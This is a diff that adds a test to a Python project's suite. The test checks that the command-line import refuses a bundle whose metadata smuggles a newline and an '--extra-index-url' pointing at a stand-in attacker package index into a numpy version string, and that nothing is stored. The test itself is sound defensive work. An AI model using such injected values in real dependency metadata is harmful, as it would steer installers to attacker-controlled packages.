@@ -276,6 +276,24 @@ def test_a_newline_in_the_saved_sklearn_version_is_refused(real, other):
     _refused(other, with_metadata(data, change), r"metadata\.json.*scikit-learn.*not a version")
 
 
+def test_the_cli_refuses_a_forged_metadata_field_with_one_line_and_stores_nothing(real, tmp_path, capsys):
+    from core.cli import main
+
+    _, data = real
+
+    def change(metadata):
+        metadata["environment"]["packages"]["numpy"] = "2.0\n--extra-index-url https://evil.example/simple"
+
+    path = tmp_path / "forged.zip"
+    path.write_bytes(with_metadata(data, change))
+    assert main(["import", str(path), "--store", str(tmp_path / "s")]) == 1
+    out, err = capsys.readouterr()
+    assert out == "" and err.count("\n") == 1
+    assert err.startswith("error: The bundle's metadata.json: environment.packages['numpy'] is not a version string")
+    assert err.rstrip().endswith("nothing imported") and "unexpected" not in err
+    assert Store(tmp_path / "s").count() == 0
+
+
 def test_a_newline_in_a_column_name_is_refused(real, other):
     # Before: stored; "how to load" pasted the name into a comment, and the next line was code.
     _, data = real
